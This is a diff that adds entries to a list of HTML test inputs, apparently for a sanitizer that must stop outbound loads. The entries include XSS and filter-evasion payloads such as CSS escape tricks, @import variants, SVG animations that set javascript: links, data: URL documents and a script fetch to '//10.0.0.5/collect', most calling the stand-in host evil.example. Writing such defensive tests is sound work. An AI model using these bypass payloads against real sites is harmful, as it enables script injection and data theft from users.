@@ -30,6 +30,21 @@ REQUESTS = [
     '<svg><script>fetch("https://evil.example/svg")</script></svg>',
     '<a href="jav&#x09;ascript:alert(1)">x</a>',
     '<iframe srcdoc="&lt;img src=&quot;https://evil.example/in-frame.png&quot;&gt;"></iframe>',
+    # CSS as a browser reads it: escapes decoded, comments dropped, image-set()'s strings are URLs too
+    '<div style="background:url(h\\74tps://evil.example/escaped.png)"></div>',
+    '<style>@import url("\\2f\\2f evil.example/escaped.css");</style>',
+    "<style>@import/**/'https://evil.example/comment.css';</style>",
+    '<style>@import"https://evil.example/tight.css";</style>',
+    "<div style=\"background-image:image-set('a.png' 1x, 'https://evil.example/set.png' 2x)\"></div>",
+    # SVG: a paint server or filter in another document; an animation that sets a link
+    '<svg><rect fill="url(https://evil.example/p.svg#g)"/></svg>',
+    '<svg><a><set attributeName="href" to="javascript:alert(1)"/><text>x</text></a></svg>',
+    '<svg><a><animate attributeName="href" values="#a;https://evil.example/anim"/></a></svg>',
+    # a document in a data: URL loads what it names
+    '<iframe src="data:text/html,&lt;img src=https://evil.example/in-data.png&gt;"></iframe>',
+    '<object data="data:image/svg+xml;base64,PHN2Zz48aW1hZ2UgaHJlZj0iaHR0cHM6Ly9ldmlsLmV4YW1wbGUveC5wbmciLz48L3N2Zz4="></object>',
+    # an address by number, in code
+    "<script>fetch('//10.0.0.5/collect')</script>",
 ]
 
 
